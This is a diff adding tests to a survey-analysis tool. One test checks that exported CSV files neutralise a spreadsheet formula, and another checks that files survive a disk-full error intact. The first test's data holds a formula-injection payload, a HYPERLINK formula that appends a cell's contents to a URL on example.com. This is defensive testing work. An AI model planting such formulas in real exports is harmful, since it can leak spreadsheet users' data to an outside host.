@@ -155,3 +155,46 @@ def test_init_with_a_sheet_records_the_sheet_so_the_description_reads_it(tmp_pat
     config = load_config(tmp_path / "s.toml")
     assert config.sheet == "Data" and list(config.questions) == ["q"]
     assert len(read_survey(source, config.sheet_for(source))) == 30
+
+
+def _survey_with_a_formula_group(tmp_path):
+    from textmine.survey_setup import description, save_description
+
+    rng = np.random.default_rng(3)
+    groups = ["Aarhus", '=HYPERLINK("http://example.com/?q="&A1,"klik")', "Skive"]
+    table = pd.DataFrame({"id": [f"r{i}" for i in range(60)], "kommune": [groups[i % 3] for i in range(60)],
+                          "tekst": [f"{TEXTS[i % 6]} nummer {i}" for i in range(60)],
+                          **{f"tf_{k}": [str(rng.integers(1, 6)) for _ in range(60)] for k in ("job", "leder", "team")}})
+    path = tmp_path / "s.csv"
+    table.to_csv(path, index=False)
+    return path, save_description(description(propose(table), path, {}), path), groups[1]
+
+
+def test_shares_by_a_column_write_no_live_formula(tmp_path):
+    import csv
+
+    path, config, formula = _survey_with_a_formula_group(tmp_path)
+    assert main(["shares", str(path), "--config", str(config), "--by", "kommune", "--out", str(tmp_path / "ud")]) == 0
+    for name in ("item_shares.csv", "field_shares.csv", "item_distribution.csv"):
+        with open(tmp_path / "ud" / name, encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert "'" + formula in cells and not [c for c in cells if c.startswith("=")], name
+
+
+def test_shares_replace_their_files_whole_or_not_at_all(tmp_path, monkeypatch, capsys):
+    import errno
+
+    path, config, _ = _survey_with_a_formula_group(tmp_path)
+    out = tmp_path / "ud"
+    out.mkdir()
+    for name in ("item_shares.csv", "field_shares.csv", "item_distribution.csv"):
+        (out / name).write_bytes(b"tidligere\r\n")
+
+    def half_then_full_disk(frame, target, *args, **kwargs):
+        open(target, "w", encoding="utf-8").write("item,gro")
+        raise OSError(errno.ENOSPC, "No space left on device")
+    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_full_disk)
+    assert main(["shares", str(path), "--config", str(config), "--by", "kommune", "--out", str(out)]) == 2
+    assert "plads" in capsys.readouterr().err
+    assert sorted(p.name for p in out.iterdir()) == ["field_shares.csv", "item_distribution.csv", "item_shares.csv"]
+    assert {p.read_bytes() for p in out.iterdir()} == {b"tidligere\r\n"}
